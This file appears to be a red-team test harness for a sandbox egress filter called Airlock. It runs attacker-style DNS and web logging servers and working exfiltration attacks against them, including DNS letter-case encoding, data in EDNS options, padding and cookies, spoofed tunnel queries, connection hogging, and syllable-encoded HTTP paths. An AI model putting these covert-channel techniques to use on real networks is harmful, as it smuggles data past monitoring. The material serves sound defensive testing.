#!/usr/bin/env python3
"""Issue #11's attacks, re-run by Tests/Integration/red-team.sh, and the servers that record what got out.

Servers (in the lab's "internet" namespace):
  dns-upstream ADDR LOG     an attacker's authoritative server: logs every query it receives as
                            "TRANSPORT HEX", answers A queries with TTL 0 (no cache can hide a query)
  web ADDR PORT LOG         a web server logging each request line and its fields, answering "ok"

Attacks (inside a sandbox; each prints one JSON object of figures):
  case SERVER N             N queries for one name, each with its own letter-case pattern
  case-data SERVER BYTES    BYTES of random data in the case of the letters of names (8 bits per 8 letters)
  options SERVER            a query with a 3,000-byte unknown EDNS option, padding full of data, a cookie,
                            a record in its answer section, 40 bytes after the message; 8,000 bytes over TCP
  spoof SERVER N ADDRS...   N tunnel queries, each from the next source address given
  hog PROXY N SECONDS       N idle connections to the proxy, held SECONDS
  requests PROXY N URL      N requests through the proxy; how many were answered 200 "ok"
  syllables PROXY N URL     up to N requests with 30 bytes of data spelled as syllables in the path,
                            until Airlock refuses one (a response with X-Airlock-Rule)
"""
import json
import os
import random
import resource
import socket
import struct
import sys
import threading
import time

SELF_ANSWERS = {"self.ownhost.test": "198.18.100.1"}


def name_wire(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def query(name, qid, qtype=1, rd=True, additional=b"", arcount=0, ancount=0, answers=b""):
    header = struct.pack(">HHHHHH", qid, 0x0100 if rd else 0, 1, ancount, 0, arcount)
    return header + name_wire(name) + struct.pack(">HH", qtype, 1) + answers + additional


def opt(options, payload=4096):
    rdata = b"".join(struct.pack(">HH", code, len(data)) + data for code, data in options)
    return b"\0" + struct.pack(">HHIH", 41, payload, 0x8000, len(rdata)) + rdata


def question_name(message):
    labels, i = [], 12
    while i < len(message) and message[i] != 0:
        n = message[i]
        labels.append(message[i + 1:i + 1 + n].decode("latin-1"))
        i += n + 1
    return ".".join(labels), i + 1


# ---------------------------------------------------------------- servers

def dns_upstream(address, log):
    lock = threading.Lock()

    def record(transport, q):
        with lock, open(log, "a") as f:
            f.write(f"{transport} {q.hex()}\n")

    def answer(q):
        if len(q) < 12:
            return None
        name, end = question_name(q)
        if end + 4 > len(q):
            return None
        qtype = struct.unpack(">H", q[end:end + 2])[0]
        qid = q[:2]
        body = q[12:end + 4]
        if qtype == 1:
            address_text = SELF_ANSWERS.get(name.lower(), "198.18.100.10")
            rr = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 0, 4) + socket.inet_aton(address_text)
            return qid + struct.pack(">HHHHH", 0x8400, 1, 1, 0, 0) + body + rr
        return qid + struct.pack(">HHHHH", 0x8400, 1, 0, 0, 0) + body

    def tcp_client(c):
        try:
            c.settimeout(5)
            while True:
                n = struct.unpack(">H", c.recv(2, socket.MSG_WAITALL))[0]
                q = c.recv(n, socket.MSG_WAITALL)
                record("tcp", q)
                a = answer(q)
                if a:
                    c.sendall(struct.pack(">H", len(a)) + a)
        except (OSError, struct.error):
            pass
        c.close()

    def tcp():
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((address, 53))
        listener.listen(64)
        while True:
            c, _ = listener.accept()
            threading.Thread(target=tcp_client, args=(c,), daemon=True).start()

    threading.Thread(target=tcp, daemon=True).start()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((address, 53))
    while True:
        q, peer = udp.recvfrom(65535)
        record("udp", q)
        a = answer(q)
        if a:
            udp.sendto(a, peer)


def web(address, port, log):
    import http.server
    import socketserver

    lock = threading.Lock()

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self):
            with lock, open(log, "a") as f:
                f.write(json.dumps({"line": self.requestline, "fields": dict(self.headers.items())}) + "\n")
            body = b"ok\n"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
        daemon_threads = True
        allow_reuse_address = True

    Server((address, port), Handler).serve_forever()


# ---------------------------------------------------------------- attacks

def exchange(server, messages, timeout=2.0, source=None):
    """Sends every message over UDP (from `source` if given) and collects answers by id."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if source:
        s.bind((source, 0))
    answers = {}
    for m in messages:
        s.settimeout(None)
        s.sendto(m, (server, 53))
        s.setblocking(False)
        try:
            while True:
                a, _ = s.recvfrom(65535)
                answers[a[:2]] = a
        except (BlockingIOError, ConnectionRefusedError):
            pass
    s.settimeout(0.2)
    deadline = time.time() + timeout
    while time.time() < deadline and len(answers) < len(messages):
        try:
            a, _ = s.recvfrom(65535)
            answers[a[:2]] = a
        except (socket.timeout, ConnectionRefusedError):
            pass
    s.close()
    return answers


def case_patterns(server, n):
    base = "ttl0.casedata.test"
    letters = [i for i, c in enumerate(base) if c.isalpha()]
    sent = []
    for p in range(1, n + 1):
        chars = list(base)
        for bit, i in enumerate(letters):
            if p >> bit & 1:
                chars[i] = chars[i].upper()
        sent.append("".join(chars))
    answers = exchange(server, [query(name, 0x1000 + i) for i, name in enumerate(sent)], timeout=3)
    print(json.dumps({"sent": len(sent), "answered": len(answers), "name": base}))


def case_data(server, count):
    data = os.urandom(count)
    bits = "".join(f"{b:08b}" for b in data)
    base = "abcdefghijklmnopqrstuvwxyzabcdefgh.casebits.test"  # 34 letters under the domain: 34 bits a name
    letters = [i for i, c in enumerate(base.split(".")[0])]
    names = []
    for start in range(0, len(bits), len(letters)):
        chunk = bits[start:start + len(letters)]
        chars = list(base)
        for bit, i in zip(chunk, letters):
            if bit == "1":
                chars[i] = chars[i].upper()
        names.append("".join(chars))
    began = time.time()
    answers = exchange(server, [query(name, i & 0xFFFF) for i, name in enumerate(names)], timeout=3)
    with open(os.environ.get("CASE_SENT", "/dev/null"), "w") as f:
        f.write("\n".join(names) + "\n")
    print(json.dumps({"bytes": count, "queries": len(names), "answered": len(answers),
                      "seconds": round(time.time() - began, 2)}))


def options(server):
    cases = {
        "unknown_option_3000": query("opt3000.optdata.test", 0x2001, additional=opt([(65001, b"Z" * 3000)]), arcount=1),
        "padding_with_data": query("padding.optdata.test", 0x2002,
                                   additional=opt([(12, b"secret in the padding " * 8)]), arcount=1),
        "cookie": query("cookie.optdata.test", 0x2003, additional=opt([(10, b"COOKIE01" + b"S" * 16)]), arcount=1),
        "record_in_answer": query("answerrr.optdata.test", 0x2004, ancount=1,
                                  answers=b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 0, 17) + b"\x10data in a record"),
        "trailing_40": query("trailing.optdata.test", 0x2005) + b"T" * 40,
    }
    out = {}
    for label, message in cases.items():
        answers = exchange(server, [message], timeout=2)
        a = answers.get(message[:2])
        out[label] = {"sent": len(message), "rcode": a[3] & 0x0F if a else None}
    big = query("tcp8000.optdata.test", 0x2006, additional=opt([(65002, b"A" * 8000)]), arcount=1)
    try:
        c = socket.create_connection((server, 53), 3)
        c.sendall(struct.pack(">H", len(big)) + big)
        n = struct.unpack(">H", c.recv(2, socket.MSG_WAITALL))[0]
        a = c.recv(n, socket.MSG_WAITALL)
        out["tcp_option_8000"] = {"sent": len(big), "rcode": a[3] & 0x0F}
    except (OSError, struct.error) as e:
        out["tcp_option_8000"] = {"sent": len(big), "rcode": None, "error": str(e)}
    print(json.dumps(out))


def spoof(server, n, sources):
    sent = answered = 0
    alphabet = "abcdefghijklmnopqrstuvwxyz234567"
    for i in range(n):
        label = "".join(random.choice(alphabet) for _ in range(50))
        name = f"{label}.{i}.t.spoofed.test"
        answers = exchange(server, [query(name, 0x3000 + i, qtype=16)], timeout=0.3, source=sources[i % len(sources)])
        sent += 1
        answered += len(answers)
    print(json.dumps({"sent": sent, "answered": answered, "sources": len(set(sources[:n]))}))


def hog(proxy, n, seconds):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    host, port = proxy.split(":")
    held = []
    began = time.time()
    for _ in range(n):
        if time.time() - began > 60:
            break
        s = socket.socket()
        s.settimeout(3)
        try:
            s.connect((host, int(port)))
            s.setblocking(False)
            held.append(s)
        except OSError:
            s.close()
    def still_open():
        count = 0
        for s in held:
            try:
                count += 1 if s.recv(1) else 0
            except BlockingIOError:
                count += 1
            except OSError:
                pass
        return count

    opened = len(held)
    time.sleep(0.5)
    at_start = still_open()
    sys.stdout.write(json.dumps({"opened": opened, "held_by_the_proxy": at_start}) + "\n")
    sys.stdout.flush()
    time.sleep(seconds)
    at_end = still_open()
    for s in held:
        s.close()
    print(json.dumps({"opened": opened, "held_by_the_proxy": at_start, "held_at_the_end": at_end}))


def proxy_get(proxy, url, timeout=5):
    host, port = proxy.split(":")
    try:
        s = socket.create_connection((host, int(port)), timeout)
        target_host = url.split("/")[2]
        s.sendall(f"GET {url} HTTP/1.1\r\nHost: {target_host}\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        s.close()
        return data.decode("latin-1")
    except OSError:
        return ""


def requests(proxy, n, url):
    served = sum(1 for _ in range(n) if proxy_get(proxy, url).endswith("ok\n"))
    print(json.dumps({"requests": n, "served": served}))


def syllables(proxy, n, url):
    consonants, vowels = "bdfgklmnprstvwyz", "aeio"
    host, port = proxy.split(":")
    target_host = url.split("/")[2]
    s = socket.create_connection((host, int(port)), 5)
    f = s.makefile("rb")
    sent = refused_after = 0
    rule = None
    began = time.time()
    for i in range(n):
        data = os.urandom(30)
        bits = int.from_bytes(data, "big")
        word = "".join(consonants[(bits >> (6 * k + 2)) & 15] + vowels[(bits >> (6 * k)) & 3] for k in range(40))
        s.sendall(f"GET {url}{word} HTTP/1.1\r\nHost: {target_host}\r\nUser-Agent: curl/8.5\r\n\r\n".encode())
        status = f.readline().decode("latin-1")
        length = 0
        while True:
            line = f.readline().decode("latin-1")
            if line in ("\r\n", ""):
                break
            key, _, value = line.partition(":")
            if key.lower() == "content-length":
                length = int(value)
            if key.lower() == "x-airlock-rule":
                rule = value.strip()
        f.read(length)
        # Any answer from the destination (200 or 404) means the path reached it; a refusal is Airlock's.
        if rule is not None or not status.startswith("HTTP/1.1 "):
            refused_after = i
            break
        sent += 30
    print(json.dumps({"data_bytes_sent_ok": sent, "requests_ok": sent // 30, "refused_at": refused_after,
                      "rule": rule, "seconds": round(time.time() - began, 2)}))


if __name__ == "__main__":
    command, args = sys.argv[1], sys.argv[2:]
    if command == "dns-upstream":
        dns_upstream(args[0], args[1])
    elif command == "web":
        web(args[0], int(args[1]), args[2])
    elif command == "case":
        case_patterns(args[0], int(args[1]))
    elif command == "case-data":
        case_data(args[0], int(args[1]))
    elif command == "options":
        options(args[0])
    elif command == "spoof":
        spoof(args[0], int(args[1]), args[2:])
    elif command == "hog":
        hog(args[0], int(args[1]), float(args[2]))
    elif command == "requests":
        requests(args[0], int(args[1]), args[2])
    elif command == "syllables":
        syllables(args[0], int(args[1]), args[2])
    else:
        sys.exit(f"unknown command {command}")
